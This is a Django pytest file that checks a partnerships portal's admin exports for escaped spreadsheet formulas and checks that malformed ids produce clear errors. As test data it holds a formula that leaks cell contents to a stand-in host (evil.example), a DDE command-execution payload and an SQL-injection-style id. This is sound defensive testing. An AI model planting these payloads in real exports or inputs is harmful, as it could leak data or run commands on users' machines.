"""Authorization holes found by trying the portal as each role, in what it takes and gives out:
exports carry no live formula, and bad ids are a clear error, never a server error."""

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin

from partnerships.models import ExpressionOfInterest, MembershipRequest
from placements.models import Application, Case
from portal.exports import EXPORT_FORMATS, escape_formula
from tests.placements.factories import advance

from .helpers import logged_in

pytestmark = pytest.mark.django_db


FORMULA = '=HYPERLINK("http://evil.example/?leak="&C3,"Open")'


# --- 5. Exports carry no live formula ----------------------------------------------------------


def test_every_admin_export_uses_the_formula_safe_formats():
    exporting = [a for a in admin.site._registry.values() if isinstance(a, ExportMixin)]
    assert exporting
    for model_admin in exporting:
        assert model_admin.get_export_formats() == EXPORT_FORMATS, type(model_admin).__name__


@pytest.mark.parametrize(
    "text", [FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "＝1+1"]
)
def test_text_that_starts_a_formula_is_escaped(text):
    assert escape_formula(text) == "'" + text
    assert escape_formula("Waste = value") == "Waste = value"
    assert escape_formula(42) == 42


def export(browser, model_admin_url, file_format):
    return browser.post(model_admin_url, {"format": file_format, "export_items": []})


@pytest.mark.parametrize("file_format", ["0", "1"], ids=["csv", "xlsx"])
def test_a_formula_in_a_title_arrives_as_text_in_the_case_export(staff, case, file_format):
    ExpressionOfInterest.objects.filter(pk=case.eoi.pk).update(title=FORMULA)
    browser = logged_in(staff["coordinator"])
    url = reverse("admin:placements_case_export")
    response = browser.post(
        url,
        {
            "format": file_format,
            "resource": "0",
            "caseexport_number": "on",
            "caseexport_title": "on",
        },
    )
    assert response.status_code == 200, response.content[:500]
    if file_format == "0":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        titles = [row[rows[0].index("Title")] for row in rows[1:]]
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        values = list(sheet.values)
        titles = [row[list(values[0]).index("Title")] for row in values[1:]]
    assert titles == ["'" + FORMULA]


# --- 6. Bad ids are a clear error, never a server error -----------------------------------------


BAD_IDS = ["abc", "1.5", "", "99999999", "-1", "1 OR 1=1"]


@pytest.mark.parametrize("bad", BAD_IDS)
def test_starting_an_eoi_for_a_bad_commune_id_is_a_clear_400(alice, german, bad):
    browser = logged_in(alice)
    response = browser.post(reverse("partnerships:eoi-start"), {"commune": bad})
    assert response.status_code == 400
    assert "Please choose one of your communes." in response.content.decode()
    assert not ExpressionOfInterest.objects.exists()


@pytest.mark.parametrize("bad", BAD_IDS)
def test_bad_ids_in_the_matching_actions_are_refused_with_a_message(case, sam, bad):
    case = advance(case, Case.State.SCREENING, by=sam)
    browser = logged_in(sam)
    for action in ("shortlist", "notes", "select"):
        response = browser.post(
            reverse("admin:placements_case_matching_action", args=[case.pk]),
            {"expert": bad, "action": action},
            follow=True,
        )
        assert response.status_code == 200
        assert "This expert could not be found." in response.content.decode()
    assert not Application.objects.exists()


@pytest.mark.parametrize("bad", BAD_IDS)
def test_bad_ids_in_the_case_form_are_form_errors(case, sam, bad):
    url = reverse("admin:placements_case_change", args=[case.pk])
    browser = logged_in(sam)
    for field in ("selected_expert", "case_officer", "deployment_type", "host_communes"):
        response = browser.post(url, {field: bad, "duration_months": "24"})
        assert response.status_code == 200, (field, bad)
        assert "errornote" in response.content.decode() or "errorlist" in response.content.decode()
    assert Case.objects.get(pk=case.pk).selected_expert is None


@pytest.mark.parametrize("bad", BAD_IDS)
def test_bad_ids_in_other_forms_and_filters_never_answer_500(
    alice, german, partnership, case, sam, bad
):
    applicant, staff_member = logged_in(alice), logged_in(sam)
    checks = [
        (applicant, "post", reverse("partnerships:commune-list"), {"commune": bad}),
        (
            applicant,
            "post",
            reverse("partnerships:eoi-confirm", args=[case.eoi.pk]),
            {"commune": bad},
        ),
        (
            applicant,
            "get",
            reverse("partnerships:eoi-compare", args=[case.eoi.pk]),
            {"a": bad, "b": bad},
        ),
        (
            applicant,
            "get",
            reverse("placements:vacancy-list"),
            {"theme": bad, "model": bad, "country": bad},
        ),
        (
            staff_member,
            "get",
            reverse("admin:placements_case_matching", args=[case.pk]),
            {"skill": bad, "language": bad},
        ),
        (
            staff_member,
            "post",
            reverse("admin:placements_case_transition", args=[case.pk]),
            {"transition": bad, "expected_state": bad},
        ),
        (
            staff_member,
            "get",
            reverse("admin:placements_case_changelist"),
            {"case_officer__id__exact": bad, "deployment_type__id__exact": bad},
        ),
    ]
    for browser, method, url, data in checks:
        response = getattr(browser, method)(url, data)
        assert response.status_code in (200, 302, 400, 404), (url, response.status_code)
    assert not MembershipRequest.objects.filter(user=alice).exists()
